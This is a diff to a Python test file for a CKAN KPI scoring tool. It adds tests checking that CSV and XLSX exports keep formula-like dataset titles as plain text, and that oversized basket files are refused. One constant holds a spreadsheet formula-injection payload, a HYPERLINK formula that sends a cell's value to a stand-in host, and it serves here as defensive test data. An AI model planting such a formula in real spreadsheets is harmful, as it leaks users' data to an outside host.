@@ -1,6 +1,7 @@
 """opdc-kpi-remote against a CKAN API double on loopback: no CKAN, no network."""
 from __future__ import annotations
 
+import io
 import json
 import logging
 import os
@@ -273,3 +274,76 @@ def test_the_tool_imports_without_ckan():
                             env=env)
     assert result.returncode == 0, result.stderr
     assert result.stdout.strip() == "ok"
+
+
+FORMULA = '=HYPERLINK("http://x.example/?"&A1,"open")'
+
+
+def test_csv_and_xlsx_output_keep_a_formula_title_as_text(capsys, tmp_path):
+    import csv as csv_module
+
+    import openpyxl
+
+    datasets = [_dataset(1, title=FORMULA), _dataset(2, title="+66 2 123 4567")]
+    handlers = {"status_show": status_show, "organization_show": _org_show,
+                "package_search": search_over(datasets)}
+    basket = tmp_path / "basket.csv"
+    basket.write_text("focus_area,mission,work_process,dataset\n"
+                      "tourism,m,w,agency-dataset-1\ntourism,m,w,agency-dataset-2\n",
+                      encoding="utf-8")
+    out_file = tmp_path / "score.xlsx"
+    with FakeCkan(handlers) as fake:
+        common = ("score", fake.url, "--org", "agency", "--year", "2565", "--quiet",
+                  "--basket", str(basket))
+        code, out, err = _run(capsys, *common, "--format", "csv")
+        assert code == 0, err
+        code, _, err = _run(capsys, *common, "--format", "xlsx", "--output", str(out_file))
+        assert code == 0, err
+    titles = [row["title"] for row in csv_module.DictReader(io.StringIO(out.split("\n\n")[0]))]
+    assert titles == ["'" + FORMULA, "'+66 2 123 4567"]
+    sheet = openpyxl.load_workbook(out_file)["datasets"]
+    cells = {row[1].value: row[1].data_type for row in sheet.iter_rows(min_row=2)}
+    assert cells == {FORMULA: "s", "+66 2 123 4567": "s"}
+    summary = list(openpyxl.load_workbook(out_file)["summary"].iter_rows(min_row=2))[0]
+    assert all(c.data_type != "f" for c in summary)
+
+
+def test_a_basket_csv_written_with_the_formula_guard_reads_back_as_typed(tmp_path):
+    import csv as csv_module
+
+    from ckanext.opdc_kpi.scoring.cells import csv_row
+
+    columns = ["focus_area", "mission", "work_process", "sub_process", "dataset"]
+    row = {"focus_area": "tourism", "mission": FORMULA, "work_process": "-5",
+           "sub_process": "'=quoted", "dataset": "agency-dataset-1"}
+    path = tmp_path / "basket.csv"
+    with path.open("w", encoding="utf-8", newline="") as handle:
+        writer = csv_module.DictWriter(handle, fieldnames=columns)
+        writer.writeheader()
+        writer.writerow(csv_row(row, columns))
+    assert "'" + FORMULA.replace('"', '""') in path.read_text(encoding="utf-8")
+    (read,) = read_basket(path).rows
+    assert (read.mission, read.work_process, read.sub_process) == (FORMULA, "-5", "'=quoted")
+
+
+def test_an_oversized_xlsx_basket_is_refused_like_a_csv(tmp_path, monkeypatch):
+    import openpyxl
+
+    from ckanext.opdc_kpi.remote import basket as basket_module
+
+    monkeypatch.setattr(basket_module, "MAX_ROWS", 3)
+    header = ["focus_area", "mission", "work_process", "dataset"]
+    rows = [["tourism", "m", "w", f"d{n}"] for n in range(4)]
+    book = openpyxl.Workbook()
+    for values in [header, [], *rows]:   # a blank row does not hide the excess
+        book.active.append(values)
+    xlsx = tmp_path / "big.xlsx"
+    book.save(xlsx)
+    csv_file = tmp_path / "big.csv"
+    csv_file.write_text("\n".join(",".join(r) for r in [header, *rows]) + "\n", encoding="utf-8")
+    for path in (xlsx, csv_file):
+        with pytest.raises(BasketError, match="more than 3 rows"):
+            read_basket(path)
+    book.active.delete_rows(book.active.max_row)
+    book.save(xlsx)
+    assert len(read_basket(xlsx).rows) == 3   # at the limit: read whole
